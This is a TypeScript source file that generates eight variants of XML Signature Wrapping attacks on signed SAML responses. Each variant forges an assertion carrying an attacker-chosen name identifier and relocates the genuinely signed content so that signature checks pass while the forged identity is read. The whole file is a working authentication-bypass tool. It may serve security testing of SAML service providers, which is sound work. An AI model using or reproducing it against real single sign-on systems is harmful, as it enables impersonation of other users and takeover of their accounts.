interface Wrapped {
  /** A response with a signed assertion (3 to 8), or a signed response (1 and 2). */
  xml: string;
  variant: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;
  nameId: string;
  evilNameId: string;
}

const SIGNATURE = /<Signature [\s\S]*?<\/Signature>/;
const ASSERTION = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;

/** The eight ways to hide what was signed beside what shall be read. */
export function wrapSignature({ xml, variant, nameId, evilNameId }: Wrapped): string {
  const signature = SIGNATURE.exec(xml)?.[0] ?? '';
  const makeEvil = (text: string) =>
    text.replaceAll(nameId, evilNameId).replace(/ ID="[^"]*"/, ' ID="_evil-element"');

  if (variant <= 2) {
    const original = xml.replace(SIGNATURE, '');
    const place = variant === 1 ? insideSignature(signature, original) : `${original}${signature}`;
    return makeEvil(original).replace('<samlp:Status>', () => `${place}<samlp:Status>`);
  }
  const signed = ASSERTION.exec(xml)?.[0] ?? '';
  const bare = signed.replace(SIGNATURE, '');
  const replacements: Record<number, () => string> = {
    3: () => `${makeEvil(bare)}${signed}`,
    4: () => makeEvil(bare).replace('</saml:Assertion>', () => `${signed}</saml:Assertion>`),
    5: () => `${withSignature(makeEvil(bare), signature)}${bare}`,
    6: () => withSignature(makeEvil(bare), insideSignature(signature, bare)),
    7: () => `<samlp:Extensions>${bare.replaceAll(nameId, evilNameId)}</samlp:Extensions>${signed}`,
    8: () => {
      const evil = bare.replaceAll(nameId, evilNameId);
      return withSignature(evil, insideSignature(signature, bare));
    },
  };
  return xml.replace(ASSERTION, () => replacements[variant]?.() ?? '');
}

function insideSignature(signature: string, hidden: string): string {
  return signature.replace('</Signature>', () => `<Object>${hidden}</Object></Signature>`);
}

function withSignature(assertion: string, block: string): string {
  return assertion.replace('<saml:Subject>', () => `${block}<saml:Subject>`);
}
